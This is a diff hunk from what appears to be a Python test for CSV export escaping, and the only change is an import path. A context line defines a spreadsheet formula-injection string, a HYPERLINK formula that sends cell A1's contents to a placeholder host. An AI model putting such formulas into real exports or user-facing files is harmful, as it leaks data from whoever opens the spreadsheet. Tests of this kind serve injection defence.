@@ -6,7 +6,7 @@ from __future__ import annotations
 from collections.abc import Callable
 from typing import Any
 
-from jelai.export import FORMULA_STARTS, csv_columns
+from jelai.insight.export import FORMULA_STARTS, csv_columns
 
 FORMULA_NOTEBOOK = '=HYPERLINK("http://example.invalid/?x="&A1,"open").ipynb'
 
